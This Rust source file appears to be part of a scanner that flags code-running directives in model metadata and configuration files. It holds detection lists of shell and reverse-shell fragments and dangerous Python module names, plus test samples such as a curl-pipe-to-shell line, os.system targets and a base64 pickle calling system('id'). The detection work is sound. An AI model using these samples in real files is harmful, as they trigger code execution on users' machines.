//! Text in metadata and configuration that names code to run.

use wb_blob::Blob;
use wb_verdict::escape;

/// A directive found in text: stable code and bounded, escaped evidence.
pub(crate) type Directive = (&'static str, String);

pub(crate) fn bounded(s: &str) -> String {
    const MAX: usize = 200;
    let mut out: String = s.trim().chars().take(MAX).collect();
    if out.len() < s.trim().len() {
        out.push('…');
    }
    escape(&out)
}

/// Evidence around byte `at`.
fn around(text: &str, at: usize) -> String {
    let mut start = at.saturating_sub(40);
    while !text.is_char_boundary(start) {
        start -= 1;
    }
    bounded(&text[start..])
}

/// Does this dotted name lead into Python itself, the operating system or a known code runner? No model's own
/// classes live there.
pub(crate) fn dangerous_name(name: &str) -> bool {
    const SYSTEM: &[&str] = &[
        "__builtin__",
        "_io",
        "_posixsubprocess",
        "asyncio",
        "bdb",
        "builtins",
        "cProfile",
        "cloudpickle",
        "code",
        "codecs",
        "commands",
        "ctypes",
        "dill",
        "functools",
        "glob",
        "http",
        "importlib",
        "io",
        "joblib",
        "marshal",
        "nt",
        "operator",
        "os",
        "pathlib",
        "pdb",
        "pickle",
        "pip",
        "pkgutil",
        "platform",
        "popen2",
        "posix",
        "profile",
        "pty",
        "pydoc",
        "requests",
        "runpy",
        "setuptools",
        "shelve",
        "shlex",
        "shutil",
        "site",
        "socket",
        "subprocess",
        "sys",
        "tempfile",
        "timeit",
        "types",
        "urllib",
        "webbrowser",
        "zipimport",
    ];
    const CALLS: &[&str] = &[
        "Popen",
        "__import__",
        "check_output",
        "eval",
        "exec",
        "get_class",
        "get_method",
        "get_object",
        "getoutput",
        "import_module",
        "load_library",
        "popen",
        "run_string",
        "system",
    ];
    let root = name.split('.').next().unwrap_or(name).trim();
    let last = name.rsplit('.').next().unwrap_or(name).trim();
    SYSTEM.contains(&root) || CALLS.contains(&last)
}

fn word_before(text: &str, at: usize) -> bool {
    text[..at].chars().next_back().is_some_and(|c| c.is_alphanumeric() || matches!(c, '_' | '.'))
}

/// Python expressions and shell commands that have no business in a metadata value.
pub(crate) fn commands(text: &str) -> Option<Directive> {
    const PYTHON: &[&str] = &[
        "__import__(",
        "eval(",
        "exec(",
        "os.system(",
        "os.popen(",
        "subprocess.",
        "pickle.loads(",
        "marshal.loads(",
        "__reduce__",
        "__globals__",
        "__builtins__",
        "importlib.import_module(",
        "ctypes.CDLL",
        "pty.spawn(",
    ];
    const SHELL: &[&str] = &[
        "rm -rf ",
        "/dev/tcp/",
        "bash -c ",
        "sh -c ",
        "powershell",
        "cmd.exe",
        "nc -e ",
        "ncat -e ",
        "chmod +x ",
        "mkfifo ",
        "certutil -urlcache",
        "wget http",
        "curl http",
        "curl -",
        "wget -",
        "base64 -d",
        "| sh",
        "|sh",
        "| bash",
        "|bash",
    ];
    for needle in PYTHON {
        if let Some(at) = text.match_indices(needle).map(|(at, _)| at).find(|at| !word_before(text, *at)) {
            return Some(("python-code", around(text, at)));
        }
    }
    let hits: Vec<usize> =
        SHELL.iter().filter_map(|n| text.find(n)).filter(|at| !word_before(text, *at)).collect();
    if let Some(&at) = hits.iter().min() {
        return Some(("shell-command", around(text, at)));
    }
    let lower = text.trim_start().get(..8).map(str::to_ascii_lowercase);
    if lower.as_deref().is_some_and(|l| l.starts_with("<script")) {
        return Some(("script-tag", bounded(text)));
    }
    None
}

/// Looks a JSON value over for keys that make loaders run code; `path` names where it stands.
pub(crate) fn in_json(value: &serde_json::Value, path: &str, found: &mut dyn FnMut(Finding<'_>)) {
    use serde_json::Value;
    // serde_json refuses documents nested deeper than 128 levels, so this recursion is bounded.
    match value {
        Value::Array(items) => {
            for (i, v) in items.iter().enumerate() {
                if v.is_object() || v.is_array() {
                    in_json(v, &format!("{path}[{i}]"), found);
                }
            }
        }
        Value::Object(map) => {
            for (key, v) in map {
                let here = if path.is_empty() { key.clone() } else { format!("{path}.{key}") };
                json_key(key, v, &here, map, found);
                in_json(v, &here, found);
            }
        }
        _ => {}
    }
}

/// Something [`in_json`] found.
pub(crate) enum Finding<'a> {
    /// A directive at a key path.
    Directive(&'static str, String),
    /// A name of code in the same repository.
    Own {
        /// Where such names stand: `auto-map` ...
        code: &'static str,
        /// File name without `.py`.
        module: String,
        /// Class or function.
        name: String,
        /// Key path and text.
        detail: String,
    },
    /// A template to be analysed, with its key path.
    Template(&'a str, String),
    /// A path that leaves the model's folder.
    UnsafePath(&'static str, String),
    /// Another file that a loader opens because of this one.
    Opens {
        /// Who opens it.
        code: &'static str,
        /// The repository, if it is another one.
        repo: String,
        /// Path relative to this file.
        path: String,
    },
}

fn json_key(
    key: &str,
    v: &serde_json::Value,
    path: &str,
    map: &serde_json::Map<String, serde_json::Value>,
    found: &mut dyn FnMut(Finding<'_>),
) {
    use serde_json::Value;
    let shown = || escape(path);
    if super::config::key(key, v, path, map, found) {
        return;
    }
    match (key, v) {
        ("chat_template" | "chat_templates", Value::String(s)) => found(Finding::Template(s, shown())),
        ("chat_template" | "chat_templates", Value::Array(items)) => {
            for item in items {
                if let Some(s) = item.get("template").and_then(Value::as_str) {
                    found(Finding::Template(s, shown()));
                }
            }
        }
        // Core ML packages list their files this way.
        ("path", Value::String(s)) if map.contains_key("author") => {
            if let Some(code) = super::paths::escape_of(s.as_bytes()) {
                found(Finding::UnsafePath(code, format!("{}: {}", shown(), bounded(s))));
            }
        }
        ("weight_map", Value::Object(m)) => shards(m, &shown(), found),
        // Layers of a manifest (Ollama, OCI).
        ("digest", Value::String(s)) if map.contains_key("mediaType") => match super::modelfile::digest(s) {
            Some("path") => found(Finding::UnsafePath("traversal", format!("{}: {}", shown(), bounded(s)))),
            Some(_) => found(Finding::Directive("index-shard-odd", format!("{}: {}", shown(), bounded(s)))),
            None => {}
        },
        // Quantised weights (AutoGPTQ): the name that the loader adds an extension to.
        ("model_file_base_name" | "model_basename", Value::String(s)) => {
            if let Some(code) = super::paths::escape_of(s.as_bytes()) {
                found(Finding::UnsafePath(code, format!("{}: {}", shown(), bounded(s))));
            }
        }
        (_, Value::String(s)) => {
            if let Some((code, detail)) = commands_in_config(s) {
                found(Finding::Directive(code, format!("{}: {detail}", shown())));
            } else if s.len() >= 24
                && let Some(what) = encoded(s)
            {
                found(Finding::Directive("encoded-content", format!("{}: {what} in base64", shown())));
            }
        }
        _ => {}
    }
}

/// A value that is nothing but an expression to evaluate: text beside may quote commands.
pub(crate) fn expression(text: &str) -> Option<Directive> {
    commands_in_config(text)
}

/// An index names the files of its shards: each is opened beside it.
fn shards(m: &serde_json::Map<String, serde_json::Value>, place: &str, found: &mut dyn FnMut(Finding<'_>)) {
    const MOST: usize = 2000;
    let mut told = std::collections::BTreeSet::new();
    for (tensor, file) in m {
        let Some(file) = file.as_str() else {
            let detail = format!("{place}.{}: {}", bounded(tensor), bounded(&file.to_string()));
            return found(Finding::Directive("index-shard-odd", detail));
        };
        let detail = || format!("{place}: {}", bounded(file));
        if let Some(code) = super::paths::escape_of(file.as_bytes()) {
            return found(Finding::UnsafePath(code, detail()));
        }
        if file.is_empty() || file.len() > 255 || file.contains("://") || file.chars().any(char::is_control) {
            return found(Finding::Directive("index-shard-odd", detail()));
        }
        if told.len() < MOST && told.insert(file) {
            found(Finding::Opens { code: "shard", repo: String::new(), path: file.into() });
        }
    }
}

/// In configuration values only what evaluates is taken for a directive: prose may quote commands.
fn commands_in_config(text: &str) -> Option<Directive> {
    const MAX: usize = 2000;
    let text = text.trim();
    let expression = ["__import__(", "eval(", "exec(", "os.system(", "subprocess."];
    let starts = expression.iter().any(|n| text.starts_with(n)) || lambda(text);
    (text.len() < MAX && (starts || text.contains("__import__("))).then(|| ("python-code", bounded(text)))
}

/// A Python lambda expression, not prose that begins with the word.
fn lambda(text: &str) -> bool {
    let Some((parameters, body)) = text.strip_prefix("lambda").and_then(|t| t.split_once(':')) else {
        return false;
    };
    let name = |p: &str| {
        let p = p.trim().trim_start_matches('*');
        p.is_empty()
            || p.split('=').next().is_some_and(|n| n.trim().chars().all(|c| c.is_alphanumeric() || c == '_'))
    };
    parameters.starts_with([' ', '*']) && parameters.split(',').all(name) && !body.trim().is_empty()
}

/// Lines of YAML-like text that make loaders import or call something.
pub(crate) fn in_yaml(text: &str, found: &mut dyn FnMut(Finding<'_>)) {
    let mut lines = text.lines().peekable();
    while let Some(line) = lines.next() {
        // Double-quoted YAML may spell an underscore as an escape.
        let spelled;
        let line = if line.contains("\\x5") || line.contains("\\u005") {
            spelled = line
                .replace("\\x5f", "_")
                .replace("\\x5F", "_")
                .replace("\\u005f", "_")
                .replace("\\u005F", "_");
            &spelled[..]
        } else {
            line
        };
        let line = line.trim_start_matches([' ', '\t', '-']).trim_end();
        if line.starts_with('#') {
            continue;
        }
        if let Some(at) = line.find("!!python/").or_else(|| line.find("tag:yaml.org,2002:python/")) {
            let tag = &line[at..];
            let name =
                tag.rsplit_once(':').map_or("", |(_, name)| name.split_whitespace().next().unwrap_or(""));
            let name = tag.split("python/").nth(1).and_then(|t| t.split(':').nth(1)).unwrap_or(name);
            let code = if dangerous_name(name) { "hydra-target-dangerous" } else { "yaml-python-tag" };
            found(Finding::Directive(code, bounded(tag)));
        }
        for (at, _) in line.match_indices("_target_") {
            let rest = line[at + 8..].trim_start_matches(['"', '\'']).trim_start();
            let explicit = line.starts_with('?') && rest.is_empty();
            let mut value = rest.strip_prefix([':', '=']).map(str::trim);
            if explicit || value.is_some_and(|v| matches!(v, "" | ">" | "|" | ">-" | "|-")) {
                value = lines.peek().map(|next| next.trim().trim_start_matches(':').trim());
            }
            let Some(value) = value else { continue };
            let value = value.trim_matches(['"', '\'']);
            let value = value.split([',', '}', '#', '"', '\'']).next().unwrap_or(value).trim();
            if !value.is_empty() {
                super::config::target(value, "_target_", found);
            }
        }
        if line.contains("${oc.env:") || line.contains("${oc.decode:") || line.contains("${eval:") {
            found(Finding::Directive("config-resolver", bounded(line)));
        }
    }
}

/// Base64 text that hides a pickle, an archive or a program.
pub(crate) fn encoded(text: &str) -> Option<&'static str> {
    const MIN: usize = 24;
    const MAX: usize = 4 << 20;
    let letters = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_');
    let runs =
        text.as_bytes().split(|b| !letters(*b) && *b != b'=').filter(|r| (MIN..MAX).contains(&r.len()));
    runs.take(1000).find_map(|run| {
        let bytes: Vec<u8> = run.iter().copied().filter(|b| *b != b'=').collect();
        let decoded = base64_bytes(&bytes);
        super::opaque::hidden(&Blob::from_vec(decoded.clone()), &decoded[..decoded.len().min(4096)])
    })
}

/// What a text of base64 stands for, if all of it is such text.
pub(crate) fn from_base64(text: &str) -> Option<Vec<u8>> {
    let body = text.trim_end_matches('=').as_bytes();
    let letter = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_');
    (text.len().is_multiple_of(4) && body.iter().all(letter)).then(|| base64_bytes(body))
}

/// Decodes base64 of either alphabet (RFC 4648); an incomplete last group is dropped.
pub(crate) fn base64_bytes(text: &[u8]) -> Vec<u8> {
    let value = |b: u8| match b {
        b'A'..=b'Z' => b - b'A',
        b'a'..=b'z' => b - b'a' + 26,
        b'0'..=b'9' => b - b'0' + 52,
        b'+' | b'-' => 62,
        _ => 63,
    };
    let mut out = Vec::with_capacity(text.len() / 4 * 3);
    for group in text.chunks(4) {
        let n = group.iter().fold(0u32, |n, b| n << 6 | u32::from(value(*b))) << (6 * (4 - group.len()));
        out.extend(&n.to_be_bytes()[1..group.len().max(1)]);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_need_word_boundaries() {
        assert_eq!(commands("retrieval(x) medieval(y)"), None);
        assert_eq!(commands("trained with sd-scripts, see https://example.org/x"), None);
        assert_eq!(commands("x = eval('1')").map(|d| d.0), Some("python-code"));
        assert_eq!(commands("curl http://x | sh").map(|d| d.0), Some("shell-command"));
    }

    #[test]
    fn yaml_lines() {
        let mut all = Vec::new();
        let text = "a:\n  _target_: os.system\nb: {_target_: nemo.x.Y, z: 1}\nc: !!python/object/apply:my.thing [x]\n# _target_: no\n";
        in_yaml(text, &mut |f| {
            if let Finding::Directive(code, detail) = f {
                all.push((code, detail));
            }
        });
        let codes: Vec<_> = all.iter().map(|a| a.0).collect();
        assert_eq!(codes, ["hydra-target-dangerous", "hydra-target", "yaml-python-tag"]);
    }

    #[test]
    fn yaml_in_other_spellings() {
        let mut codes = Vec::new();
        let text = "? _target_\n: os.system\na: {\"\\x5ftarget_\": builtins.exec}\nb: {_target_: a.B, c: {_target_: os.x}}\n_target_:\n  os.y\n";
        in_yaml(text, &mut |f| {
            if let Finding::Directive(code, _) = f {
                codes.push(code);
            }
        });
        assert_eq!(codes.iter().filter(|c| **c == "hydra-target-dangerous").count(), 4, "{codes:?}");
    }

    #[test]
    fn base64_is_decoded() {
        // cposix\nsystem\n(S'id'\ntR.
        assert_eq!(encoded("Y3Bvc2l4CnN5c3RlbQooUydpZCcKdFIu"), Some("pickle"));
        assert_eq!(encoded("aGVsbG8gd29ybGQgdGhpcyBpcyBwbGFpbiB0ZXh0"), None);
        assert_eq!(encoded("an ordinary sentence with nothing in it at all"), None);
    }

    #[test]
    fn json_keys() {
        let v = serde_json::json!({"a": [{"_target_": "subprocess.run"}], "auto_map": {"AutoModel": "o/r--m.M"}, "ok": "x"});
        let mut codes = Vec::new();
        in_json(&v, "", &mut |f| {
            if let Finding::Directive(code, _) = f {
                codes.push(code);
            }
        });
        codes.sort_unstable();
        assert_eq!(codes, ["code-elsewhere", "hydra-target-dangerous"]);
    }
}
